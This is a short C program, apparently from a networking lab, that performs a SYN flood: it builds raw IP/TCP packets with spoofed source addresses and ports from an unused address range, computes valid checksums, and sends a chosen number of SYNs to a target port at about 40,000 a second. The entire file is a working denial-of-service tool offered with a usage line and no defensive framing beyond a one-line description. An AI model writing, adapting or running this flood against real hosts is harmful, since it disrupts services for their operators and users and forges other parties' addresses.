/*
 * Sends COUNT SYNs to a port of an address, each from another address and port of the same network of 256: addresses at which nobody is.
 *
 *     flood 10.9.0.2 80 10.9.0.128 100 50000
 */
#include <arpa/inet.h>
#include <netinet/ip.h>
#include <netinet/tcp.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>

struct packet {
  struct iphdr ip;
  struct tcphdr tcp;
};

static unsigned sum(const void *data, unsigned bytes, unsigned start) {
  const unsigned char *p = data;
  for (unsigned i = 0; i + 1 < bytes; i += 2) start += (unsigned)p[i] << 8 | p[i + 1];
  while (start >> 16) start = (start & 0xffff) + (start >> 16);
  return start;
}

int main(int argc, char **argv) {
  if (argc != 6) {
    fprintf(stderr, "usage: flood ADDRESS PORT FIRST-SOURCE SOURCES COUNT\n");
    return 2;
  }
  unsigned to = ntohl(inet_addr(argv[1])), from = ntohl(inet_addr(argv[3])), sources = (unsigned)atoi(argv[4]);
  long count = atol(argv[5]);
  int raw = socket(AF_INET, SOCK_RAW, IPPROTO_RAW);
  if (raw < 0) {
    perror("socket");
    return 1;
  }
  unsigned state = 1;
  for (long i = 0; i < count; i++) {
    state = state * 1664525 + 1013904223;
    struct packet p;
    memset(&p, 0, sizeof p);
    p.ip.version = 4;
    p.ip.ihl = 5;
    p.ip.tot_len = htons(sizeof p);
    p.ip.ttl = 64;
    p.ip.protocol = IPPROTO_TCP;
    p.ip.saddr = htonl(from + (state >> 8) % sources);
    p.ip.daddr = htonl(to);
    p.tcp.source = htons((unsigned short)(1024 + (state >> 16) % 60000));
    p.tcp.dest = htons((unsigned short)atoi(argv[2]));
    p.tcp.seq = htonl(state);
    p.tcp.doff = 5;
    p.tcp.syn = 1;
    p.tcp.window = htons(1000);
    unsigned pseudo = sum(&p.ip.saddr, 8, IPPROTO_TCP + sizeof p.tcp);
    p.tcp.check = htons((unsigned short)~sum(&p.tcp, sizeof p.tcp, pseudo));
    struct sockaddr_in where = {.sin_family = AF_INET, .sin_addr.s_addr = htonl(to)};
    sendto(raw, &p, sizeof p, 0, (struct sockaddr *)&where, sizeof where);
    if (i % 50 == 49) nanosleep(&(struct timespec){.tv_nsec = 1000000}, NULL); /* some 40,000 a second */
  }
  return 0;
}
